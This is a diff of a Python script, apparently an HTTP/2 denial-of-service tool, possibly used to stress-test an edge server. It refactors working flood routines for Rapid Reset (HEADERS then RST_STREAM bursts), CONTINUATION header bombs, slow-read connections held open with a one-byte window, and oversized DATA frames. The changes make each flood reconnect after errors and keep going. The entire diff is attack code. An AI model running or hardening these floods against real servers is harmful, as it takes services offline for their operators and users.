@@ -43,69 +43,75 @@ def connect(address, window=65535):
 def rapid_reset(address, end):
     """1,000 calls a second and connection, each taken back at once."""
     count = 0
-    connection = connect(address)
-    stream = 1
+    connection = None
     cancel = (8).to_bytes(4, "big")
     while time.monotonic() < end:
-        burst = b""
-        for _ in range(20):
-            burst += frame(HEADERS, END_HEADERS, stream, call_headers())
-            burst += frame(RST_STREAM, 0, stream, cancel)
-            stream += 2
         try:
+            if connection is None:
+                connection, stream = connect(address), 1
+            burst = b""
+            for _ in range(20):
+                burst += frame(HEADERS, END_HEADERS, stream, call_headers())
+                burst += frame(RST_STREAM, 0, stream, cancel)
+                stream += 2
             connection.sendall(burst)
             count += 20
         except OSError:
-            connection, stream = connect(address), 1
+            connection = None
         time.sleep(0.02)
     return count
 
 
 def header_bomb(address, end):
     """Metadata without end, until the connection is closed; 20 a second."""
-    count = 0
-    junk = b"\x00" + text(b"x-bomb") + text(b"a" * 100)
-    while time.monotonic() < end:
-        connection = connect(address)
-        count += 1
-        try:
-            connection.sendall(frame(HEADERS, 0, 1, call_headers()))
-            for _ in range(1000):
-                connection.sendall(frame(CONTINUATION, 0, 1, junk * 100))
-        except OSError:
-            pass
-        connection.close()
-        time.sleep(0.05)
-    return count
+    junk = (b"\x00" + text(b"x-bomb") + text(b"a" * 100)) * 100
+
+    def bomb(connection):
+        connection.sendall(frame(HEADERS, 0, 1, call_headers()))
+        for _ in range(1000):
+            connection.sendall(frame(CONTINUATION, 0, 1, junk))
+
+    return one_each(address, end, bomb)
 
 
 def slow_read(address, end):
     """300 connections that take one byte of an answer, and never read."""
     held = []
     while time.monotonic() < end:
-        if len(held) < 300:
-            connection = connect(address, window=1)
-            for stream in range(1, 21, 2):
-                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers()))
-            held.append(connection)
+        try:
+            if len(held) < 300:
+                held.append(connect(address, window=1))
+                for stream in range(1, 21, 2):
+                    held[-1].sendall(
+                        frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers()))
+        except OSError:
+            pass
         time.sleep(0.01)
     return len(held)
 
 
 def large_frames(address, end):
     """Messages of 4 MiB in frames of 1 MiB, past every window; 20 a second."""
-    count = 0
     body = frame(DATA, 0, 1, bytes(1 << 20))
+
+    def push(connection):
+        connection.sendall(frame(HEADERS, END_HEADERS, 1, call_headers()))
+        for _ in range(4):
+            connection.sendall(body)
+
+    return one_each(address, end, push)
+
+
+def one_each(address, end, attack):
+    """A connection for each attack, 20 a second; the edge closes it, or we do."""
+    count = 0
     while time.monotonic() < end:
-        connection = connect(address)
-        count += 1
         try:
-            connection.sendall(frame(HEADERS, END_HEADERS, 1, call_headers()))
-            for _ in range(4):
-                connection.sendall(body)
+            with connect(address) as connection:
+                count += 1
+                attack(connection)
         except OSError:
             pass
-        connection.close()
         time.sleep(0.05)
     return count
 
